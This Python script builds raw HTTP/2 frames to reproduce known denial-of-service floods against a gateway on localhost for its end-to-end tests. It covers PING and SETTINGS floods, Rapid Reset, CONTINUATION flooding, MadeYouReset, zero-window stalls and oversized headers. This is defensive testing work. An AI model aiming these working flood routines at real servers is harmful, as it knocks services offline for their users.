#!/usr/bin/env python3
"""HTTP/2 attacks on the gateway, for its end-to-end tests: each mode misbehaves the way a
known flood does and prints what the gateway answered: the GOAWAY's error code (or `closed`,
`open`), and for some modes what else it did. Plaintext HTTP/2 with prior knowledge, to
127.0.0.1 only. Frames are built by hand: a client library would refuse to misbehave.

Usage: attack.py MODE PORT   (MODE: ping, settings, rapid_reset, continuation,
       made_you_reset, zero_window, header_size, concurrency, extended_connect)
"""
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, kind, flags, stream & 0x7FFFFFFF) + payload


class Raw:
    def __init__(self, port, settings=b""):
        self.s = socket.create_connection(("127.0.0.1", port))
        self.s.settimeout(0.5)
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_allowed_table_size = 65536
        self.buf = b""
        self.frames = []
        self.closed = False
        self.goaway = None
        self.send(PREFACE + frame(0x4, 0, 0, settings))

    def send(self, raw):
        try:
            self.s.sendall(raw)
        except OSError:
            self.closed = True

    def headers(self, sid, path, end_stream=True, extra=()):
        block = self.enc.encode([(":method", "GET" if end_stream else "POST"), (":path", path),
                                 (":scheme", "http"), (":authority", "attack.test")] + list(extra))
        # Frames of 16 KiB at most: HEADERS, then CONTINUATION, the last with END_HEADERS.
        parts = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        out = b""
        for i, part in enumerate(parts):
            last = 0x4 if i == len(parts) - 1 else 0
            if i == 0:
                out += frame(0x1, last | (0x1 if end_stream else 0), sid, part)
            else:
                out += frame(0x9, last, sid, part)
        return out

    def pump(self, seconds):
        end = time.time() + seconds
        while time.time() < end and not self.closed:
            try:
                data = self.s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            self.buf += data
            while len(self.buf) >= 9:
                n = (self.buf[0] << 16) | (self.buf[1] << 8) | self.buf[2]
                if len(self.buf) < 9 + n:
                    break
                kind, flags = self.buf[3], self.buf[4]
                sid = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
                payload = self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                self.frames.append((kind, flags, sid, payload))
                if kind == 0x4 and not flags & 1:
                    self.send(frame(0x4, 1, 0))  # acknowledge the server's settings
                if kind == 0x7:
                    code = struct.unpack(">I", payload[4:8])[0]
                    self.goaway = ERRORS.get(code, f"error {code}")
        if self.goaway:
            return self.goaway
        return "closed" if self.closed else "open"

    def resets(self, code):
        return sum(1 for k, _, _, p in self.frames if k == 0x3 and struct.unpack(">I", p[:4])[0] == code)

    def status(self, sid):
        for k, _, s, p in self.frames:
            if k == 0x1 and s == sid:
                return dict(self.dec.decode(p)).get(":status")
        return None


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    if mode == "ping":
        c = Raw(port)
        c.send(b"".join(frame(0x6, 0, 0, struct.pack(">Q", i)) for i in range(2000)))
        print(c.pump(5))
    elif mode == "settings":
        c = Raw(port)
        c.send(b"".join(frame(0x4, 0, 0, struct.pack(">HI", 0x3, 100)) for _ in range(2000)))
        print(c.pump(5))
    elif mode == "rapid_reset":
        c = Raw(port)
        c.pump(0.2)
        raw = b""
        for i in range(3000):
            sid = 1 + 2 * i
            raw += c.headers(sid, "/reset") + frame(0x3, 0, sid, struct.pack(">I", 8))
        c.send(raw)
        print(c.pump(5))
    elif mode == "continuation":
        c = Raw(port)
        c.pump(0.2)
        block = c.enc.encode([(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "a")])
        c.send(frame(0x1, 0x1, 1, block))  # HEADERS without END_HEADERS
        filler = hpack.Encoder().encode([("x-filler", "a" * 8000)])
        for _ in range(400):  # 32 MB of header block unless the gateway stops it first
            c.send(frame(0x9, 0, 1, filler) * 10)
            if c.pump(0.01) != "open":
                break
        print(c.pump(5))
    elif mode == "made_you_reset":
        c = Raw(port)
        c.pump(0.2)
        for batch in range(8):
            raw = b""
            for i in range(50):
                sid = 1 + 2 * (batch * 50 + i)
                # A body is announced, then a window increment that overflows the stream's
                # window: a stream error the server must answer by resetting the stream.
                raw += c.headers(sid, "/made", end_stream=False)
                raw += frame(0x8, 0, sid, struct.pack(">I", 0x7FFFFFFF))
            c.send(raw)
            if c.pump(0.3) != "open":
                break
        print(c.pump(3))
    elif mode == "zero_window":
        c = Raw(port, struct.pack(">HI", 0x4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE = 0
        c.pump(0.3)
        c.send(c.headers(1, "/stall"))
        print(c.pump(8))
    elif mode == "extended_connect":
        c = Raw(port)
        c.pump(0.3)
        enabled = any(k == 0x4 and b"\x00\x08\x00\x00\x00\x01" in p for k, _, _, p in c.frames)
        block = c.enc.encode([(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "http"),
                              (":path", "/chat"), (":authority", "attack.test")])
        c.send(frame(0x1, 0x4, 1, block))
        state = c.pump(1)
        code = next((ERRORS.get(struct.unpack(">I", p[:4])[0]) for k, _, s, p in c.frames if k == 0x3 and s == 1),
                    None)
        print(f"{'offered' if enabled else 'refused'} {code}, {state}")
    elif mode == "header_size":
        c = Raw(port)
        c.pump(0.2)
        c.send(c.headers(1, "/big", extra=[("x-big", "b" * 100_000)]))
        state = c.pump(2)
        print(c.status(1) or ("reset" if c.resets(1) or c.resets(11) else state))
    elif mode == "concurrency":
        c = Raw(port)
        c.pump(0.3)  # the server's settings, acknowledged
        c.send(b"".join(c.headers(1 + 2 * i, "/open", end_stream=False) for i in range(300)))
        state = c.pump(2)
        print(f"{state} refused={c.resets(7)}")
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
